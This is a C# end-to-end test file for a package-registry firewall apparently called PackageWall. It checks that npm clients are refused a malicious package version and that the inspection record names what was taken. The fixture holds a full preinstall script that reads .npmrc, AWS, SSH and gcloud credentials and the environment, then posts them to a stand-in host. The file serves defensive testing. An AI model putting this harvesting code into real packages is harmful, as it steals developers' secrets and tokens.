using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using PackageWall.Core.Standings;
using PackageWall.EndToEnd.Tests.Clients;
using PackageWall.Testing.Packages;
using PackageWall.Testing.Registries;
using Xunit.Abstractions;

namespace PackageWall.EndToEnd.Tests.Npm;

/// <summary>A version whose <c>preinstall</c> gathers secrets and sends them away, judged by the product's own inspection. Inert: its host does not exist, and nothing of it ever runs.</summary>
public sealed partial class HarvestTests(ITestOutputHelper output)
{
    private const string Package = "pw-metrics";

    // The shape of the campaigns of 2025: several kinds of secrets, the whole environment, one post to a fixed host.
    private const string Setup = """
        const fs = require('fs');
        const os = require('os');
        const path = require('path');
        const https = require('https');

        const found = {};
        for (const place of ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.config/gcloud/application_default_credentials.json']) {
          try { found[place] = fs.readFileSync(path.join(os.homedir(), place), 'utf8'); } catch { }
        }
        const body = JSON.stringify({ env: process.env, found });
        const request = https.request({ host: 'collect.metrics.invalid', path: '/v1', method: 'POST' });
        request.on('error', () => { });
        request.end(body);
        """;

    [Theory]
    [InlineData("npm 11")]
    [InlineData("npm 10")]
    public async Task Npm_gets_the_version_before_and_a_pin_prints_the_reason(string name)
    {
        NpmClient client = NpmClient.Of(name);
        await using NpmWorld world = await NpmWorld.StartAsync(real: true);
        PublishBoth(world, DateTimeOffset.UtcNow.AddHours(-1));

        // The young version waits, and is inspected while it does.
        await world.JsonAsync(Package);
        await world.Standings.ReachesAsync(Package, "1.0.1", StandingKind.Blocked);

        using ClientHome range = client.Home(world.Address);
        ClientRun resolved = (await client.AddAsync(range, Package)).ShouldSucceed();
        NpmClient.Installed(range, Package).ShouldBe("1.0.0");
        resolved.Output.ShouldContain("npm notice PackageWall: pw-metrics 1.0.1 is blocked");

        using ClientHome pin = client.Home(world.Address);
        ClientRun pinned = (await client.AddAsync(pin, Package + "@1.0.1")).ShouldFail();
        pinned.Output.ShouldContain("1.0.1 is blocked (");
        pinned.Output.ShouldContain("newest allowed: 1.0.0");
        NpmClient.Installed(pin, Package).ShouldBeNull();

        // Time does not release it, and a lock file does not get it either.
        world.Wall.Time.Advance(TimeSpan.FromDays(30));
        using ClientHome locked = client.Home(world.Address);
        locked.Write("package.json", """{ "name": "project", "version": "1.0.0", "dependencies": { "pw-metrics": "1.0.1" } }""");
        locked.Write("package-lock.json", LockFile(world));
        ClientRun replayed = (await client.ReplayAsync(locked)).ShouldFail();
        replayed.Output.ShouldContain("E403");
        replayed.Output.ShouldContain("is blocked");
        output.WriteLine(resolved.Output + pinned.Output + replayed.Output);
        if (name == "npm 11")
        {
            WriteSeen(world, ("npm install pw-metrics", resolved), ("npm install pw-metrics@1.0.1", pinned), ("npm ci", replayed));
        }
    }

    [Fact]
    public async Task The_record_names_what_the_hook_would_have_read_and_where_it_would_have_sent_it()
    {
        await using NpmWorld world = await NpmWorld.StartAsync(real: true);
        NpmRelease bad = PublishBoth(world, NpmWorld.LongAgo.AddDays(1));

        // Old enough to be inspected while the client waits: refused at the first request, withheld from then on.
        using HttpResponseMessage first = await world.GetAsync(NpmWorld.Tarball(bad));
        ((int)first.StatusCode).ShouldBe(403);

        JsonNode record = await world.RecordAsync(Package, "1.0.1");
        output.WriteLine(record.ToJsonString(new System.Text.Json.JsonSerializerOptions { WriteIndented = true }));
        record["verdict"]!.GetValue<string>().ShouldBe("malicious");
        string findings = record["artifacts"]![0]!["findings"]!.ToJsonString();
        foreach (string part in (string[])[".npmrc", ".aws/credentials", ".ssh/id_rsa", "collect.metrics.invalid", "setup.js"])
        {
            findings.ShouldContain(part);
        }

        (await world.JsonAsync(Package))["dist-tags"]!["latest"]!.GetValue<string>().ShouldBe("1.0.0");
    }

    private static NpmRelease PublishBoth(NpmWorld world, DateTimeOffset at)
    {
        world.Registry.Publish(new NpmPackageBuilder(Package, "1.0.0").File("index.js", "module.exports = () => 'counted';\n"), NpmWorld.LongAgo);
        return world.Registry.Publish(
            new NpmPackageBuilder(Package, "1.0.1")
                .File("index.js", "module.exports = () => 'counted';\n")
                .File("setup.js", Setup)
                .Script("preinstall", "node setup.js"),
            at);
    }

    private static string LockFile(NpmWorld world) => $$"""
        {
          "name": "project", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
          "packages": {
            "": { "name": "project", "version": "1.0.0", "dependencies": { "pw-metrics": "1.0.1" } },
            "node_modules/pw-metrics": { "version": "1.0.1", "resolved": "{{world.Address}}pw-metrics/-/pw-metrics-1.0.1.tgz", "hasInstallScript": true }
          }
        }
        """;

    // The README shows npm's own words. They are written down only when somebody asks for it.
    private static void WriteSeen(NpmWorld world, params (string Command, ClientRun Run)[] runs)
    {
        if (System.Environment.GetEnvironmentVariable("PACKAGEWALL_WRITE_SEEN") != "1")
        {
            return;
        }

        string root = AppContext.BaseDirectory;
        while (!File.Exists(Path.Combine(root, "PackageWall.sln")))
        {
            root = Path.GetDirectoryName(root)!;
        }

        string text = string.Join("\n", runs.Select(run => $"$ {run.Command}\n{Private().Replace(run.Run.Output, "")}"))
            .Replace(world.Wall.Address.AbsoluteUri, "http://127.0.0.1:8080/", StringComparison.Ordinal);
        Directory.CreateDirectory(Path.Combine(root, "docs", "seen"));
        File.WriteAllText(Path.Combine(root, "docs", "seen", "npm-refused.txt"), text);
    }

    // Paths and advertisements of this machine.
    [GeneratedRegex(@"^.*(A complete log of this run|_logs|new (major|minor|patch) version|npm warn (Unknown|using)).*\n", RegexOptions.Multiline)]
    private static partial Regex Private();
}
